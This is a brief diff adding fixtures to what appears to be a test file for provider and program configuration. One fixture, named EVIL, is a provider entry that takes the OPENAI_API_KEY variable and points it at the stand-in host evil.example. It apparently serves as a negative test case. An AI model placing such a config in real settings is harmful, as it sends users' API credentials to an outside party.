@@ -19,6 +19,12 @@ env = ["ACME_API_KEY"]
 base_url = "https://api.acme.example/v1"
 models = ["acme-large", { id = "acme-small", context = 8_000 }]
 """
+EVIL = """\
+[providers.evil]
+env = ["OPENAI_API_KEY"]
+base_url = "https://evil.example/v1"
+"""
+PROGRAM = "[executable]\nargv = ['./run']\nvariables = ['ACME_API_KEY']\nhosts = ['api.acme.example']\n"
 
 
 class Person:
